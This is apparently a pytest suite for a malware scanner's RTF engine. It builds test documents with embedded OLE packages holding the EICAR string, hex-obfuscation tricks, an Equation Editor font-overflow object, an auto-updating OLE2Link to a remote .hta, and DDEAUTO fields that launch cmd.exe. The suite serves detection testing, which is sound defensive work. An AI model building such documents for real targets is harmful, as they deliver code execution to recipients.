from __future__ import annotations

import struct
from collections.abc import Callable

import pytest
from hypothesis import given, strategies as st

from app.engine.model import Report, Severity, Verdict
from app.engine.rules import RuleSet
from app.engine.scan import Engine
from app.sandbox.compound_file import compound_file
from tests.fuzz import fuzzed

from .containers import BENIGN, EICAR, damaged, judged, places


def text(value: str) -> bytes:
    raw = value.encode() + b"\0" if value else b""
    return struct.pack("<I", len(raw)) + raw


def embedded(class_name: str, native: bytes) -> bytes:
    """An OLE 1 object (MS-OLEDS 2.2.5)."""
    return (
        struct.pack("<II", 0x501, 2) + text(class_name) + text("") + text("") + struct.pack("<I", len(native)) + native
    )


def package(name: str, data: bytes) -> bytes:
    """What Windows makes of a file dropped into a document."""
    label, path = name.encode() + b"\0", b"C:\\Users\\me\\" + name.encode() + b"\0"
    content = b"\x02\x00" + label + path + struct.pack("<HHI", 0, 3, len(path)) + path
    return content + struct.pack("<I", len(data)) + data


def rtf(data: bytes, *, control: bytes = b"\\objemb", digits: bytes | None = None) -> bytes:
    return (
        rb"{\rtf1\ansi Please read. {\object"
        + control
        + rb"\objw100{\*\objclass Package}{\*\objdata "
        + (digits if digits is not None else data.hex().encode())
        + rb"}{\result}} Thank you.}"
    )


def severities(report: Report) -> dict[str, Severity]:
    return {finding.id: finding.severity for finding in report.findings}


def test_a_package_is_scanned_under_its_name(engine: Engine) -> None:
    report = engine.scan(rtf(embedded("Package", package("bill.txt", EICAR))), name="a.doc")

    assert places(report) == {"yara.eicar": "a.doc/bill.txt"}


def test_a_harmless_package_is_clean(engine: Engine) -> None:
    report = engine.scan(rtf(embedded("Package", package("bill.txt", BENIGN))), name="a.rtf")

    assert (report.verdict, report.nodes) == (Verdict.CLEAN, 2)


def _spaced(digits: bytes) -> bytes:
    return b"\r\n \t".join(digits[at : at + 1] for at in range(len(digits)))


def _worded(digits: bytes) -> bytes:
    return rb"\par123 \objh{\*\nothing 41414141}".join(digits[at : at + 7] for at in range(0, len(digits), 7))


@pytest.mark.parametrize("hide", [_spaced, _worded, bytes.upper])
def test_digits_that_are_broken_up_are_put_together(engine: Engine, hide: Callable[[bytes], bytes]) -> None:
    data = embedded("Package", package("bill.txt", EICAR))

    report = engine.scan(rtf(data, digits=hide(data.hex().encode())), name="a.rtf")

    assert report.verdict is Verdict.MALICIOUS


def test_binary_data_in_an_object_is_read(engine: Engine) -> None:
    data = embedded("Package", package("bill.txt", EICAR))

    report = engine.scan(
        rtf(data, digits=data[:10].hex().encode() + rb"\bin%d " % len(data[10:]) + data[10:]), name="a.rtf"
    )

    assert report.verdict is Verdict.MALICIOUS


def test_an_object_that_begins_anew_is_read_from_there(engine: Engine) -> None:
    data = embedded("Package", package("bill.txt", EICAR))

    report = engine.scan(rtf(data, digits=rb"0105{\*\objdata " + data.hex().encode() + b"}"), name="a.rtf")

    assert report.verdict is Verdict.MALICIOUS


def test_an_equation_that_loads_itself_is_malicious(engine: Engine) -> None:
    report = engine.scan(rtf(embedded("eQuAtiOn.3", b"\x1c" + bytes(80)), control=rb"\objemb\objupdate"), name="a.doc")

    assert severities(report)["rtf.equation_object"] is Severity.MALICIOUS


def test_an_equation_that_no_program_wrote_is_suspicious(engine: Engine) -> None:
    report = engine.scan(rtf(embedded("Equation.3", b"\x1c" + bytes(80))), name="a.doc")

    assert severities(report)["rtf.equation_object"] is Severity.SUSPICIOUS


def equation(font: bytes) -> bytes:
    header = struct.pack("<HIHIIIII", 28, 0x20000, 0, 64, 0, 0, 0, 0)
    return header + b"\x03\x01\x01\x03\x0a" + b"\x0a\x01\x08\x81\x00" + font + b"\0" + bytes(60)


def test_an_equation_with_a_long_font_name_is_malicious_and_one_with_a_font_is_clean(engine: Engine) -> None:
    attack = compound_file({"Equation Native": equation(b"A" * 48)}, {})
    honest = compound_file({"Equation Native": equation(b"Times New Roman")}, {})

    assert severities(engine.scan(rtf(embedded("Equation.3", attack)), name="a.rtf"))["office.equation_attack"]
    assert engine.scan(rtf(embedded("Equation.3", honest)), name="a.rtf").verdict is Verdict.CLEAN


def test_an_address_that_runs_by_itself_is_malicious(engine: Engine) -> None:
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "http://site.example/a.hta".encode("utf-16-le")
    linked = rtf(embedded("OLE2Link", compound_file({"\x01Ole": moniker}, {})), control=rb"\objautlink\objupdate")

    report = engine.scan(linked, name="a.doc")

    assert severities(report)["rtf.remote_object"] is Severity.MALICIOUS
    assert "http://site.example/a.hta" in [link.url for link in report.urls]


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        (rb"DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"", Severity.MALICIOUS),
        (rb"DD{\b EAUTO} c:\\\\windows\\\\system32\\\\cmd.exe", Severity.MALICIOUS),
        (rb"DDEAUTO Excel.Sheet.8 C:\\book.xls r1c1", Severity.INFO),
        (rb"HYPERLINK \"https://site.example/\"", None),
    ],
)
def test_a_field_is_judged_by_what_it_starts(engine: Engine, code: bytes, severity: Severity | None) -> None:
    report = engine.scan(rb"{\rtf1{\field{\*\fldinst {" + code + rb"}}{\fldrslt x}}}", name="a.rtf")

    found = [finding.severity for finding in report.findings if finding.id.startswith("office.dde")]
    assert found == ([severity] if severity else [])


def test_a_remote_template_is_suspicious_and_its_address_a_link(engine: Engine) -> None:
    report = engine.scan(rb"{\rtf1{\*\template https://site.example/t.dotm}}", name="a.rtf")

    assert severities(report) == {"office.remote_template": Severity.SUSPICIOUS}
    assert "https://site.example/t.dotm" in [link.url for link in report.urls]


def test_a_local_template_is_clean(engine: Engine) -> None:
    assert engine.scan(rb"{\rtf1{\*\template C:\\Users\\me\\Normal.dotm}}", name="a.rtf").findings == ()


@pytest.mark.parametrize(
    "part",
    [rb"\objdata ", rb"{\*\objdata 01", rb"\fldinst ", rb"\objdata\bin9999999 ", rb"{\*\template ", rb"\objdata\'4"],
)
def test_many_of_anything_are_read_in_linear_time(engine: Engine, part: bytes) -> None:
    report = engine.scan(rb"{\rtf1" + part * 20_000, name="a.rtf")

    assert "limit.seconds" not in severities(report)


@fuzzed()
@given(st.data())
def test_a_damaged_text_never_fails(rules: RuleSet, data: st.DataObject) -> None:
    seed = rtf(embedded("Package", package("bill.txt", BENIGN)), control=rb"\objemb\objupdate")
    judged(rules, data.draw(damaged(seed, within=(6, len(seed) - 1))), "a.rtf")
